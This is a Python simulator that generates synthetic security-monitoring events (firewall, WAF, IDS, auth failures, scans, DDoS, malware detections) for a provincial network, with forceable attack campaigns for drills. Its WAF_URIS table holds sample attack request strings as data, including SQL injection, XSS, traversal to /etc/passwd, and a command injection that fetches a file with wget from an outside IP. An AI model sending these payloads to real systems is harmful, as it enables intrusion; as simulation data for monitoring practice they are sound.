"""Security feed: firewall logs, WAF and IDS hits, authentication failures, scans, malware.

A steady background (firewall logs at the Internet gateways are most of it) takes the rate
budget; attack *campaigns* come on top at their own rate: brute force on a system or a
camera, a web attack, a port scan, a DDoS and a malware outbreak.  They start at random, more
often at night, and drills start or stop them with ``force``.
"""
from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from simulators.base import Event, iso
from simulators.common import count, hex_id, night_factor, public_ip, within
from simulators.health import office_factor
from streams.core.geography import Province
from streams.core.contracts.security import severity_from_cap, severity_from_priority

BACKGROUND = {"firewall": 0.55, "waf": 0.12, "auth": 0.16, "ids": 0.10, "scan": 0.04, "camera_auth": 0.02}
#: endpoint-protection detections across the province's computers, per hour in office hours, whatever
#: the feed's rate (a share of the event rate would turn a fast replay into an outbreak); all quarantined
#: (15 % are not in a ``malware`` campaign)
MALWARE_PER_HOUR = 4.0
#: notices of the national monitoring centre (layer 4) per hour, whatever the feed's rate: on a calm day
#: routine ones only (``NATIONAL_ROUTINE``); an infected or compromised host is a campaign, not background
NATIONAL_PER_HOUR = 2.0
#: campaign -> (starts per hour, events per second while it lasts)
CAMPAIGNS = {"brute_force": (0.2, 3.0), "web_attack": (0.15, 2.0), "port_scan": (0.3, 1.0), "ddos": (0.02, 40.0),
             "malware": (0.05, 0.3)}
WEB_SYSTEMS = ("dvc", "eoffice", "email", "gis", "baocao")
#: attack -> (OWASP CRS rule, severity)
WAF_RULES = {"sqli": ("942100 SQL injection", "high"), "xss": ("941100 XSS", "medium"),
             "lfi": ("930100 path traversal", "medium"), "rfi": ("931100 remote file inclusion", "medium"),
             "rce": ("932100 remote command execution", "high"), "scanner": ("913100 security scanner", "low"),
             "protocol": ("920350 host header is an IP", "low"), "bot": ("913101 scripting user agent", "low")}
WAF_WEIGHTS = {"scanner": 40, "sqli": 15, "xss": 15, "lfi": 10, "bot": 10, "protocol": 5, "rce": 3, "rfi": 2}
WAF_URIS = {"sqli": "/api/hoso?id=1%27%20OR%20%271%27=%271", "xss": "/tim-kiem?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "lfi": "/tai-lieu?file=../../etc/passwd", "rfi": "/?page=http://evil.example/x.txt",
            "rce": "/cgi-bin/;wget%20http://203.0.113.66/x", "scanner": "/.env", "protocol": "/", "bot": "/wp-login.php"}
IDS_SIGNATURES = (  # (signature, category, Suricata priority)
    ("ET SCAN Suspicious inbound to MSSQL port 1433", "Attempted Information Leak", 2),
    ("ET EXPLOIT Apache log4j RCE attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1),
    ("ET POLICY SMB2 NT Create AndX request for an executable", "Potential Corporate Privacy Violation", 3),
    ("ET WEB_SERVER Possible SQL injection in URI", "Web Application Attack", 1),
    ("ET INFO Observed DNS query to a dynamic DNS domain", "Misc activity", 3),
    ("GPL ICMP_INFO PING *NIX", "Misc activity", 4),
)
NATIONAL_ALERTS = (  # layer 4: CAP severities from the national monitoring centre
    ("Địa chỉ IP trong mạng nằm trong danh sách botnet", "Severe"),
    ("Kết nối tới máy chủ điều khiển mã độc APT", "Extreme"),
    ("Trang thông tin có dấu hiệu bị chèn mã quảng cáo cờ bạc", "Moderate"),
    ("Dịch vụ công khai lỗ hổng đã biết", "Minor"),
)
NATIONAL_ROUTINE = tuple(a for a in NATIONAL_ALERTS if a[1] in ("Moderate", "Minor"))
MALWARE = ("Trojan.Win32.Agent", "Backdoor.PlugX", "Ransom.LockBit", "Worm.USB.Autorun", "Trojan.Macro.Emotet")
USERNAMES = ("admin", "root", "administrator", "vanthu", "nguyenvana", "tranthib", "lethic", "ketoan", "test")
FILES = ("C:\\Users\\vanthu\\Downloads\\Công văn khẩn.exe", "C:\\Users\\ketoan\\AppData\\Local\\Temp\\hoso.scr",
         "E:\\Tai lieu\\Bao cao quy 4.docm", "C:\\ProgramData\\svchost.exe")


@dataclass
class Campaign:
    kind: str
    target: str  # a system or, for brute force, a camera
    src_ip: str
    rate: float
    until: datetime | None  # None: forced, runs until stopped
    last_summary: datetime | None = None


class SecuritySimulator:
    family = "security"
    weight = 1.0

    def __init__(self, province: Province, rng: random.Random, *, campaigns: bool = True) -> None:
        self.rng = rng
        self.campaigns_on = campaigns
        self.systems = [s.code for s in province.systems]
        self.cameras = [c.code for c in province.cameras]
        self.ip = {code: f"203.0.113.{10 + i}" for i, code in enumerate(self.systems)}
        devices = province.extra.get("security_devices") or []
        self.layer = {d["code"]: int(d["layer"]) for d in devices}
        self.by_kind: dict[str, list[str]] = {}
        for d in devices:
            self.by_kind.setdefault(d["kind"], []).append(d["code"])
        for kind in ("firewall", "waf", "ids", "edr", "national"):
            if kind not in self.by_kind:
                raise ValueError(f"province file lists no security device of kind {kind!r}")
        self.hosts = [f"pc-{u.code}-{i:03d}" for u in province.units for i in range(1, 41)]
        self._camera_set = set(self.cameras)
        self.web = [s for s in WEB_SYSTEMS if s in self.ip] or self.systems
        self.logins = [s for s in ("eoffice", "eoffice", "email", "dvc") if s in self.ip] or self.systems
        self.active: list[Campaign] = []
        self._kinds, self._weights = list(BACKGROUND), list(BACKGROUND.values())

    # -- control, used by drills ------------------------------------------------------------
    def force(self, target: str, campaign: str | None, *, src_ip: str | None = None, rate: float | None = None) -> None:
        """Start a campaign on a system (or brute force on a camera) until stopped; None stops them."""
        if target not in self.ip and target not in self._camera_set:
            raise ValueError(f"unknown target {target!r}: a system or a camera code")
        if campaign is None:
            self.active = [c for c in self.active if not (c.target == target and c.until is None)]
            return
        if campaign not in CAMPAIGNS:
            raise ValueError(f"unknown campaign {campaign!r}; known: {', '.join(CAMPAIGNS)}")
        if target in self._camera_set and campaign != "brute_force":
            raise ValueError("a camera can only be forced into brute_force")
        self.active.append(Campaign(campaign, target, src_ip or public_ip(self.rng), rate or CAMPAIGNS[campaign][1], None))

    def key_of(self, event: Event) -> str:
        return event.get("system") or event["device"]

    # -- events -----------------------------------------------------------------------------
    def _ev(self, type_: str, ts: datetime, severity: str, action: str, **fields: Any) -> Event:
        ev = {"id": hex_id(self.rng, 96), "type": type_, "dateObserved": iso(ts), "severity": severity, "action": action}
        ev.update(fields)
        if "device" in fields and fields["device"] in self.layer:
            ev["layer"] = self.layer[fields["device"]]
        return ev

    def _firewall(self, ts: datetime, src: str | None = None, system: str | None = None, port: int | None = None) -> Event:
        rng = self.rng
        device = rng.choice(self.by_kind["firewall"])
        if src is None and rng.random() < 0.2:  # outbound from the province's own network
            dport = rng.choice((443, 443, 80, 53))
            return self._ev("FirewallLog", ts, "informational", "allowed", device=device, direction="outbound",
                            src_ip=f"10.91.{rng.randrange(1, 60)}.{rng.randrange(1, 255)}", src_port=rng.randrange(1024, 65535),
                            dst_ip=public_ip(rng), dst_port=dport, protocol="udp" if dport == 53 else "tcp",
                            rule="allow-outbound", bytes=rng.randrange(200, 200_000))
        system = system or rng.choice(self.systems)
        dport = port or rng.choice((443, 443, 443, 80, 80, 22, 3389, 25, 445, 1433, 23))
        allowed = src is None and dport in (443, 80, 25) and rng.random() < 0.97
        return self._ev("FirewallLog", ts, "informational" if allowed else "low", "allowed" if allowed else "blocked",
                        device=device, system=system, direction="inbound", src_ip=src or public_ip(rng),
                        src_port=rng.randrange(1024, 65535), dst_ip=self.ip[system], dst_port=dport, protocol="tcp",
                        rule="allow-web" if allowed else "deny-default", bytes=rng.randrange(60, 80_000) if allowed else 60)

    def _waf(self, ts: datetime, src: str | None = None, system: str | None = None, attack: str | None = None) -> Event:
        rng = self.rng
        attack = attack or rng.choices(list(WAF_WEIGHTS), weights=list(WAF_WEIGHTS.values()))[0]
        rule, severity = WAF_RULES[attack]
        system = system or rng.choice(self.web)
        return self._ev("WafHit", ts, severity, "blocked" if rng.random() < 0.85 else "detected",
                        device=self.by_kind["waf"][0], system=system, src_ip=src or public_ip(rng),
                        src_port=rng.randrange(1024, 65535), dst_ip=self.ip[system], dst_port=443, protocol="tcp",
                        attack=attack, rule=rule, method="POST" if attack in ("sqli", "rce") else "GET", uri=WAF_URIS[attack])

    def _auth(self, ts: datetime, src: str | None = None, target: str | None = None) -> Event:
        rng = self.rng
        if target in self._camera_set:
            return self._ev("AuthFailure", ts, "medium" if src else "low", "blocked", device=target,
                            src_ip=src or f"10.92.{rng.randrange(1, 30)}.{rng.randrange(1, 255)}",
                            service=rng.choice(("onvif", "rtsp")), rule="AuthFailed", username="admin")
        office = src is None and rng.random() < office_factor(ts)
        system = target or rng.choice(self.logins)
        locked = src is not None and rng.random() < 0.02
        return self._ev("AuthFailure", ts, "high" if locked else "medium" if src else "informational", "blocked",
                        system=system, src_ip=src or (f"10.91.{rng.randrange(1, 60)}.{rng.randrange(1, 255)}" if office
                                                      else public_ip(rng)),
                        service="ssh" if src and rng.random() < 0.3 else rng.choice(("web", "sso", "mail")),
                        username=rng.choice(USERNAMES), account_locked=locked)

    def _ids(self, ts: datetime, src: str | None = None, system: str | None = None) -> Event:
        rng = self.rng
        system = system or rng.choice(self.systems)
        sig, category, priority = rng.choice(IDS_SIGNATURES)
        return self._ev("IdsAlert", ts, severity_from_priority(priority), "blocked" if priority == 1 else "detected",
                        device=self.by_kind["ids"][0], rule=sig, category=category,
                        signature_id=2_000_000 + IDS_SIGNATURES.index((sig, category, priority)),
                        **self._flow(rng, src, system))

    def _flow(self, rng: random.Random, src: str | None, system: str) -> dict[str, Any]:
        return {"system": system, "src_ip": src or public_ip(rng), "dst_ip": self.ip[system], "protocol": "tcp",
                "src_port": rng.randrange(1024, 65535), "dst_port": rng.choice((443, 80, 1433, 445))}

    def _national(self, ts: datetime, alerts: tuple[tuple[str, str], ...] = NATIONAL_ROUTINE,
                  system: str | None = None) -> Event:
        """A notice of the national monitoring centre (layer 4, CAP severities) about one of the systems."""
        rng = self.rng
        text, cap = rng.choice(alerts)
        return self._ev("IdsAlert", ts, severity_from_cap(cap), "detected", device=self.by_kind["national"][0],
                        rule=text, category="Cảnh báo giám sát quốc gia",
                        **self._flow(rng, None, system or rng.choice(self.systems)))

    def _scan(self, ts: datetime, src: str | None = None, system: str | None = None) -> Event:
        rng = self.rng
        system = system or rng.choice(self.systems)
        return self._ev("PortScan", ts, "low" if src is None else "medium", "detected", device=self.by_kind["ids"][0],
                        system=system, src_ip=src or public_ip(rng), dst_ip=self.ip[system], protocol="tcp",
                        ports_scanned=rng.randrange(20, 2000), window_s=60.0, rule="portscan-threshold")

    def _malware(self, ts: datetime, host: str | None = None, system: str | None = None,
                 quarantined: bool | None = None) -> Event:
        """Background detections are quarantined (the endpoint agent did its job); in an outbreak 15 % are not."""
        rng = self.rng
        name = rng.choice(MALWARE)
        if quarantined is None:
            quarantined = rng.random() < 0.85
        severity = "medium" if quarantined else "critical" if name.startswith("Ransom") else "high"
        return self._ev("MalwareDetection", ts, severity, "quarantined" if quarantined else "detected",
                        device=host or rng.choice(self.hosts), malware=name, file_path=rng.choice(FILES),
                        sha256=hex_id(rng, 256), rule=f"edr:{name}", layer=self.layer[self.by_kind["edr"][0]],
                        **({"system": system} if system else {}))

    def _background(self, kind: str, ts: datetime) -> Event:
        if kind == "camera_auth":
            return self._auth(ts, target=self.rng.choice(self.cameras)) if self.cameras else self._firewall(ts)
        return self._BUILDERS[kind](self, ts)

    _BUILDERS = {"firewall": _firewall, "waf": _waf, "auth": _auth, "ids": _ids, "scan": _scan}

    def _campaign_events(self, c: Campaign, now: datetime, dt: float) -> list[Event]:
        rng, out = self.rng, []
        for _ in range(count(rng, c.rate * dt)):
            ts = within(rng, now, dt)
            if c.kind == "brute_force":
                out.append(self._auth(ts, src=c.src_ip, target=c.target))
            elif c.kind == "web_attack":
                out.append(self._waf(ts, src=c.src_ip, system=c.target, attack=rng.choice(("sqli", "xss", "rce", "lfi"))))
            elif c.kind == "port_scan":
                out.append(self._firewall(ts, src=c.src_ip, system=c.target, port=rng.randrange(1, 65536)))
            elif c.kind == "ddos":
                out.append(self._firewall(ts, src=public_ip(rng), system=c.target, port=443))
            else:
                out.append(self._malware(ts, host=f"pc-{c.target}-{rng.randrange(1, 13):03d}", system=c.target))
                if rng.random() < 0.05:  # the national centre sees the outbreak's traffic too
                    out.append(self._national(ts, NATIONAL_ALERTS[:2], system=c.target))
        if c.kind in ("port_scan", "ddos") and (c.last_summary is None or now - c.last_summary >= timedelta(seconds=10)):
            c.last_summary = now
            if c.kind == "port_scan":
                out.append(self._scan(now, src=c.src_ip, system=c.target))
            else:
                out.append(self._ev("DdosAlert", now, "critical" if c.rate > 100 else "high", "detected",
                                    device=self.by_kind["ids"][0], system=c.target, dst_ip=self.ip[c.target],
                                    requests_per_s=round(c.rate * rng.uniform(400, 600), 1),
                                    baseline_per_s=round(rng.uniform(50, 300), 1), sources=rng.randrange(500, 20000),
                                    rule="ddos-rate-threshold"))
        return out

    def _start_campaigns(self, now: datetime, dt: float) -> None:
        rng = self.rng
        boost = 0.6 + 0.8 * night_factor(now)
        for kind, (per_hour, rate) in CAMPAIGNS.items():
            if rng.random() < per_hour * boost * dt / 3600:
                target = rng.choice(self.web) if kind != "port_scan" else rng.choice(self.systems)
                until = now + timedelta(minutes=rng.uniform(5, 45))
                self.active.append(Campaign(kind, target, public_ip(rng), rate * rng.uniform(0.5, 2.0), until))

    def tick(self, now: datetime, dt: float, n: int) -> list[Event]:
        rng = self.rng
        if self.campaigns_on:
            self._start_campaigns(now, dt)
        self.active = [c for c in self.active if c.until is None or c.until > now]
        events = [self._background(kind, within(rng, now, dt))
                  for kind in (rng.choices(self._kinds, weights=self._weights, k=n) if n else ())]
        if n:
            rate = MALWARE_PER_HOUR * (0.2 + 0.8 * office_factor(now))
            events.extend(self._malware(within(rng, now, dt), quarantined=True)
                          for _ in range(count(rng, rate * dt / 3600)))
            events.extend(self._national(within(rng, now, dt)) for _ in range(count(rng, NATIONAL_PER_HOUR * dt / 3600)))
        for c in self.active:
            events.extend(self._campaign_events(c, now, dt))
        return events
